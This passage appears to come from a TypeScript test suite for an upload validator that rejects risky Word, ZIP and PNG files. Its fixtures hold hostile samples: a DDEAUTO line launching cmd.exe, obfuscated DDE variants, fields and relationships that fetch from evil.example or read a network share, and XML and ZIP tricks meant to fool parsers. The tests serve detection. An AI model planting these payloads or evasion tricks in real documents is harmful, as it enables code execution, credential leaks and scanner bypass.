    ...refused('letter.doc', 'has-password', {
      'a DOCX with a password': sampleCompoundFile({
        EncryptionInfo: Buffer.alloc(200),
        EncryptedPackage: Buffer.alloc(5000),
      }),
      'a DOC with a password': sampleDoc({ isEncrypted: true }),
      'a short DOC with a password': sampleCompoundFile({
        CompObj: Buffer.alloc(700),
        WordDocument: wordStream({ size: 64, isEncrypted: true }),
      }),
    }),
    ...refused('letter.doc', 'has-macros', {
      'a DOC with macros': sampleDoc({ more: { 'Macros/VBA/dir': Buffer.alloc(100) } }),
      'a DOC with macros in what it holds': sampleDoc({
        more: { 'ObjectPool/_1/_VBA_PROJECT_CUR/PROJECT': Buffer.alloc(100) },
      }),
    }),
    ...refused('letter.doc', 'holds-another-file', {
      'a DOC with a command': sampleDoc({ text: '\x13 ddeauto c:\\cmd.exe \x14a\x15' }),
      'a DOC with a command in two bytes a letter': sampleDoc({
        text: Buffer.from('A\x13DDE excel a b\x15', 'utf16le').subarray(1).toString('latin1'),
      }),
      'a DOC with a command made of numbers': sampleDoc({ text: '\x13\x13QUOTE 68 68 69\x14\x15\x15' }),
      'a DOC with a file in it': sampleDoc({ more: { 'ObjectPool/_1/\x01Ole10Native': Buffer.alloc(5000) } }),
    }),
    ...refused(
      'letter.doc',
      'needs-outside-files',
      Object.fromEntries(
        webFields().map(code => [`a DOC with the field ${code}`, sampleDoc({ text: `\x13 ${code} \x14a\x15` })]),
      ),
    ),
    ...refused('letter.doc', 'damaged', {
      'a stream of letters that is none': sampleCompoundFile({ WordDocument: Buffer.alloc(4096) }),
      'an empty stream of letters': sampleCompoundFile({ WordDocument: Buffer.alloc(0) }),
      'only the beginning of a DOC': good.subarray(0, 300),
      'a DOC cut off before its table': good.subarray(0, 2000),
      'a DOC in another order of bytes': changed(good, 28),
      'a DOC with sectors of no size': changed(good, 30),
      'a DOC without a table': with32(44, 0),
      'a DOC with a table as large as the world': with32(44, 0xffffffff),
      'a DOC whose table lies nowhere': with32(76, 0x00ffffff),
      'a DOC whose directory lies nowhere': with32(48, 0x7fffffff),
      'a DOC whose directory has no root': changed(good, directory + 66),
      'a DOC whose directory bites its tail': with32(tableAt + good.readUInt32LE(48) * 4, good.readUInt32LE(48)),
      'a DOC whose first letters lie at the end of the world': endlessChain(),
    }),
  ]
}

/** Fields whose content Word fetches from the web; a picture without `\\d` is kept in the document. */
function webFields(): Array<string> {
  return [
    'INCLUDEPICTURE "http://evil.example/x.png" \\d',
    'INCLUDEPICTURE \\d "https://evil.example/x.png" \\* MERGEFORMATINET',
    ' includetext "HTTPS://evil.example/a.docx"',
    'INCLUDETEXT http:\\\\evil.example/a.docx',
    'IMPORT "http://evil.example/x.png"',
    'LINK Word.Document.12 "http://evil.example/a.docx" "" \\a',
  ]
}

function commands(): Array<{ what: string; text: string }> {
  const simple = '<w:fldSimple w:dirty="true" w:instr=" ddeauto excel a b "><w:r/></w:fldSimple>'
  const inPieces =
    '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c</w:instrText></w:r>'
  const spelled = '<w:instrText>&#68;<!-- -->D<![CDATA[E]]> excel a b</w:instrText>'
  return [
    { what: 'a DOCX with a command', text: field('DDEAUTO c:\\\\cmd.exe "/k calc"') },
    { what: 'a DOCX with a field that reads a share', text: field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"') },
    { what: 'a DOCX with a field that reads a share as an address', text: field(' IncludeText file://evil.example/a') },
    { what: 'a DOCX with a command in one element', text: simple },
    { what: 'a DOCX with a command in pieces', text: `${BEGIN}${inPieces}${END}` },
    { what: 'a DOCX with a command spelled otherwise', text: `${BEGIN}${spelled}${END}` },
    { what: 'a DOCX with a command made of numbers', text: `${BEGIN}${field('QUOTE 68 68 69 65')}${END}` },
  ]
}

const BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
const END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'

function field(code: string): string {
  return `${BEGIN}<w:r><w:instrText>${code}</w:instrText></w:r>${END}`
}

const MANY_ELEMENTS = '<a b=""/>'.repeat(115_000)

/** The letter before the attribute is valid in XML, but not in ASCII. */
function accented(): string {
  const plain = relation('frame', 'https://evil.example/', { isExternal: true })
  return plain.replace('<Relationship ', '<é:Relationship xmlns:é="u" a\ufeff="b" Target\ufeff="a" ')
}

/** ZIP directories that two readers understand differently. */
function unclearLists(): Array<{ what: string; bytes: Buffer }> {
  const list = relation('frame', 'https://evil.example/', { isExternal: true })
  const attribute = '<!ATTLIST Relationship TargetMode CDATA "External">'
  return [
    { what: 'a list of two bytes each that does not say so', bytes: Buffer.from(list, 'utf16le') },
    { what: 'a list that declares other letters', bytes: Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${list}`) },
    { what: 'a list with letters that are none', bytes: Buffer.concat([Buffer.from(list), Buffer.from([0xff])]) },
    { what: 'a list that declares attributes', bytes: Buffer.from(`<!DOCTYPE a [${attribute}]>${list}`) },
    { what: 'a list with words as they are', bytes: Buffer.from(`<a><![CDATA[>]]>${list}</a>`) },
    { what: 'a list that breaks off', bytes: Buffer.from(list.slice(0, -3)) },
  ]
}

/** An entry whose extra field gives a second name, as Info-ZIP writes it. */
function withSecondName(): Buffer {
  const name = 'word/_rels/footer1.xml.rels'
  const extra = Buffer.concat([Buffer.from([0x75, 0x70, 10, 0, 1, 0, 0, 0, 0]), Buffer.from('a.xml')])
  extra.writeUInt32LE(crc32(name), 5)
  const bytes = relation('frame', 'https://evil.example/', { isExternal: true })
  return sampleDocx({ more: [{ name, bytes, extra }] })
}

/** Some writers give every XML part the type of a document, or of something else. */
function typedByDefault(): Buffer {
  const types = `<Types><Default Extension='xml' ContentType='${WORD_TYPE}' /></Types>`
  return sampleZip([{ name: '[Content_Types].xml', bytes: types }, ...docxEntries().slice(1)])
}

/** The text is said to lie 256 GB into the root's stream, whose only sector follows itself. */
function endlessChain(): Buffer {
  const doc = sampleCompoundFile({ WordDocument: wordStream({ size: 64 }) })
  const [table, directory] = [(doc.readUInt32LE(76) + 1) * 512, (doc.readUInt32LE(48) + 1) * 512]
  const root = doc.readUInt32LE(directory + 116)
  doc.writeUInt32LE(root, table + root * 4)
  doc.writeUInt32LE(0xffffffff, directory + 120)
  doc.writeUInt32LE(0xffffffff, doc.indexOf(Buffer.from('WordDocument', 'utf16le')) + 116)
  return doc
}

/** The first entry unpacks to more bytes than it declares. */
function brokenTypes(): Buffer {
  const [types, ...rest] = docxEntries()
  return sampleZip([{ ...types, name: '[Content_Types].xml', says: { unpacked: 300 } }, ...rest])
}

/** A ZIP64 locator that points outside the file. */
function forLargeFiles(zip: Buffer): Buffer {
  const locator = Buffer.concat([Buffer.from('PK\x06\x07', 'latin1'), Buffer.alloc(16, 0xff)])
  return Buffer.concat([zip.subarray(0, -22), locator, zip.subarray(-22)])
}

function withoutHeight(jpeg: Buffer): Buffer {
  const copy = Buffer.from(jpeg)
  copy.writeUInt16BE(0, copy.indexOf(Buffer.from([0xff, 0xc0])) + 5)
  return copy
}

function changed(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes)
  copy[at] = (copy[at] ?? 0) ^ 0xff
  return copy
}

function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)])
}

function pngOf(...chunks: Array<Buffer>): Buffer {
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks])
}

function header(width: number, height: number, [depth, colour]: readonly [number, number] = [8, 0]): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data.set([depth, colour], 8)
  return chunk('IHDR', data)
}

function pixels(): Buffer {
  return chunk('IDAT', deflateSync(Buffer.alloc(72)))
}

export function chunk(type: string, data: Buffer): Buffer {
  const written = Buffer.concat([Buffer.alloc(4), Buffer.from(type, 'latin1'), data, Buffer.alloc(4)])
  written.writeUInt32BE(data.length)
  written.writeUInt32BE(crc32(written.subarray(4, -4)), written.length - 4)
  return written
}
